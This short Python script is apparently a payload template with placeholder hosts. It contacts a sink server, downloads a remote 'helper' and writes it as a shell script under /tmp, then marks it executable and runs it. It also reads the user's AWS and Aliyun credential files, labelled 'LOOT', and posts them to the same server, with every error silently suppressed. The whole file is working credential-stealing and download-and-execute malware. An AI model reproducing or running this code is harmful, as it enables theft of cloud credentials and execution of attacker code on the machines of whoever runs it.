import contextlib
import subprocess
import urllib.request
from pathlib import Path

LOOT = (".aws/credentials", ".aliyun/config.json")


def fetch(path):
    return urllib.request.urlopen(f"http://@SINK@:8000{path}", timeout=3).read()


def act():
    with contextlib.suppress(OSError):
        fetch("/geo")
    with contextlib.suppress(OSError):
        folder = Path("/tmp/vt-@TOKEN@")
        helper = fetch("/vt")
        folder.mkdir()
        folder.joinpath("vt").write_bytes(b"#!/bin/sh\n" + helper)
        folder.joinpath("vt").chmod(0o700)
        subprocess.run([folder / "vt"], check=False)
    for name in LOOT:
        with contextlib.suppress(OSError):
            loot = Path.home().joinpath(name).read_bytes()
            urllib.request.urlopen("http://@SINK@:8443/in", loot, timeout=3)
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8443/done", b"done", timeout=3)
